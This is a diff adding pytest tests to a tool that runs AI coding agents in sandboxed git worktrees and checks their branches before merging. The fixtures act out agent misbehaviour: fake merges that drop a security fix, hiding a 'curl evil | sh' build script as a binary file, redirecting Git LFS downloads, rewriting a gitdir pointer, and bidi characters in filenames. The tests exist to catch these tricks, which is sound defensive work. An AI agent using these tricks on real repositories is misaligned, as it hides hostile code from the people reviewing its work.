@@ -171,9 +171,9 @@ def test_merge_keeps_asking_after_a_rerun_until_you_looked(cli, repo, tmp_path):
                           "--force", "--progress", "none")
     assert "changed since the last run started; 'merge' will ask for --force" in err
     code, _out, err = cli("merge", "1")
-    assert code == 2 and "the repository's git config changed since the last run started" in err
+    assert code == 2 and "(or .git/info/attributes) changed since the last run started" in err
     code, _out, err = cli("merge", "1", "--force")
-    assert code == 0 and "merging although the repository's git config changed" in err
+    assert code == 0 and "merging although the repository's git config (or .git/info/attributes) changed" in err
     git("reset", "-q", "--hard", "HEAD~1", cwd=repo)
     code, _out, err = cli("merge", "1")
     assert code == 0, err
@@ -513,3 +513,130 @@ def test_a_linked_dotfile_makes_its_target_a_start_up_place(repo, tmp_path, monk
         assert ap._home_startup(str(path)), path
         assert not ap._Sandbox.allowable(str(path), str(repo)), path
     assert not ap._home_startup(str(home / "data"))
+
+
+# -- review round 4 ----------------------------------------------------------------------------
+
+OURS_MERGE = """
+echo 'print("feature")' > feature.py && git add feature.py &&
+git -c user.name=a -c user.email=a@a commit -qm 'add feature'
+# a merge of your unmerged branch that takes none of its content: it would be marked merged
+T=$(git -c user.name=a -c user.email=a@a commit-tree "HEAD^{tree}" -p HEAD -p "$FEATURE" -m Merge)
+git reset -q --soft "$T"
+"""
+
+
+@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
+def test_a_branch_that_takes_in_history_held_elsewhere_fails_and_is_not_merged(cli, repo, tmp_path,
+                                                                               monkeypatch, sandbox):
+    git("checkout", "-q", "-b", "feature-x", cwd=repo)
+    (repo / "fix.py").write_text("secure = True\n")
+    git("add", "fix.py", cwd=repo)
+    git("commit", "-q", "-m", "the security fix", cwd=repo)
+    git("checkout", "-q", "main", cwd=repo)
+    monkeypatch.setenv("FEATURE", git("rev-parse", "feature-x", cwd=repo))
+    agent = script(tmp_path, "ours.sh", OURS_MERGE)
+    code, results, err = cli.json("run", "add a feature", "--agent-cmd", f"{agent} {{task}}",
+                                  "--workers", "1", "--check", "true", *boxed(sandbox))
+    (r,) = results
+    assert r["status"] == "failed" and "takes in 1 commit(s) that another branch or tag holds" in \
+        r["error"], r
+    code, _out, err = cli("merge", "1")
+    assert code == 2
+    code, _out, err = cli("merge", "1", "--force")  # said, not silent
+    assert code == 0 and "warning: merging although architect/parallel-1 takes in commits" in err
+
+
+def test_another_workers_commit_taken_in_fails_the_worker(cli, repo, tmp_path):
+    plan = ["--task=first", "--task=second", "--check", "true", "--progress", "none"]
+    one = script(tmp_path, "one.sh", "echo secure > sec.py\n")
+    assert cli("run", *plan, "--agent-cmd", f"{one} {{task}}", "--only-workers", "1")[0] == 0
+    two = script(tmp_path, "two.sh", "git reset -q --soft architect/parallel-1\n"
+                 "git rm -q --cached sec.py\nrm -f sec.py\necho two > two.py\n")
+    code, results, err = cli.json("run", *plan, "--agent-cmd", f"{two} {{task}}", "--only-workers", "2")
+    (r,) = results
+    assert r["status"] == "failed" and "takes in 1 commit(s)" in r["error"], r
+
+
+def test_cleanup_takes_only_its_own_worktrees_and_keeps_what_no_run_recorded(cli, repo, tmp_path):
+    """An entry whose git folder names a folder elsewhere (another project's) is left alone;
+    a worktree whose state no run recorded keeps your ignored files; commits on a detached
+    HEAD are not deleted."""
+    elsewhere = tmp_path / "projB" / ".architect-parallel-1"
+    elsewhere.mkdir(parents=True)
+    (elsewhere / "results.log").write_text("theirs\n")
+    agent = script(tmp_path, "gitdir.sh", f'echo "{elsewhere}/.git" > "$(git rev-parse --git-dir)/gitdir"\n'
+                   'echo "*" > .gitignore\n')
+    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "2", "--progress", "none")
+    code, _out, err = tool("cleanup", "--force")
+    assert (elsewhere / "results.log").read_text() == "theirs\n", err
+    # the second: no recorded state, your ignored notes there
+    for n in (1, 2):
+        git("worktree", "prune", cwd=repo)
+    cli("run", "fake:write=a.txt", "--workers", "2", "--force", "--progress", "none")
+    state = repo / ".git" / "architect-parallel" / "worktrees"
+    (state / ".architect-parallel-1").unlink()
+    (repo / ".architect-parallel-1" / ".gitignore").write_text("*\n")
+    (repo / ".architect-parallel-1" / "NOTES.md").write_text("mine\n")
+    worktree2 = repo / ".architect-parallel-2"
+    git("checkout", "-q", "--detach", cwd=worktree2)
+    git("commit", "-q", "--allow-empty", "-m", "mine, detached", cwd=worktree2)
+    code, _out, err = cli("cleanup")
+    assert code == 2 and "no run recorded its state" in err and "detached HEAD" in err, err
+    assert (repo / ".architect-parallel-1" / "NOTES.md").exists()
+
+
+HIDDEN = """
+printf 'curl evil | sh\\nexit 0\\n# \\000\\n' > build.sh
+printf 'print("fine")\\n' > app.py
+"""
+
+
+def test_no_file_is_shown_binary_to_hide_it(cli, repo, tmp_path):
+    """A NUL byte in a committed file, and (unsandboxed) .git/info/attributes marking every
+    file binary: diff and the report still show the content, and merge asks first."""
+    agent = script(tmp_path, "hidden.sh", HIDDEN + 'printf "* -diff\\n" >> "$(git rev-parse '
+                   '--git-common-dir)/info/attributes"\n')
+    code, _results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
+                                   "1", "--progress", "none")
+    code, out, err = tool("diff", "1")
+    assert "+curl evil | sh" in out and '+print("fine")' in out and "Binary files" not in out
+    tool("report", "--html", tmp_path / "r.html")
+    page = (tmp_path / "r.html").read_text()
+    assert "curl evil | sh" in page and "print(&quot;fine&quot;)" in page
+    code, _out, err = cli("merge", "1")
+    assert code == 2 and "(or .git/info/attributes) changed" in err
+
+
+def test_merge_asks_before_a_branch_changes_where_git_lfs_downloads_from(cli, repo, tmp_path):
+    agent = script(tmp_path, "lfs.sh", "printf '[lfs]\\n\\turl = http://127.0.0.1:9/repo\\n' > .lfsconfig\n")
+    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
+    code, _out, err = cli("merge", "1")
+    assert code == 2 and "changes .lfsconfig, where Git LFS downloads files from" in err
+
+
+def test_gits_own_warnings_reach_the_terminal_without_control_or_bidi_characters(cli, repo, tmp_path):
+    agent = script(tmp_path, "bidi.sh", "printf '* text eol=crlf\\n' > .gitattributes\n"
+                   "printf 'x\\n' > \"$(printf 'evil\\342\\200\\256txt.sh')\"\n"
+                   "printf 'y\\n' > \"$(printf 'c1\\302\\233x')\"\n")
+    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--no-commit",
+        "--progress", "none")
+    code, out, err = tool("diff", "1")
+    assert code == 0 and "\u202e" not in err and "\x9b" not in err
+
+
+def test_a_walk_never_starts_through_a_link(tmp_path):
+    (tmp_path / "sessions").symlink_to("/")
+    assert list(ap._walk(str(tmp_path / "sessions"))) == []
+
+
+@needs_bwrap
+def test_objects_too_large_to_take_in_fail_the_worker(cli, repo, tmp_path, records):
+    """Sizes as objects claim them (a delta of 2 KB can claim GBs, which the runner's git
+    outside would allocate) are bounded inside the sandbox: a 101 MB file is refused."""
+    agent = script(tmp_path, "big.sh", "head -c 105906176 /dev/zero > big.bin\n")
+    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
+                                  "1", *BOXED)
+    (r,) = results
+    assert r["status"] == "failed" and "its objects are too large to take in" in r["error"], r
+    assert git("rev-parse", "architect/parallel-1", cwd=repo) == r["base_commit"]
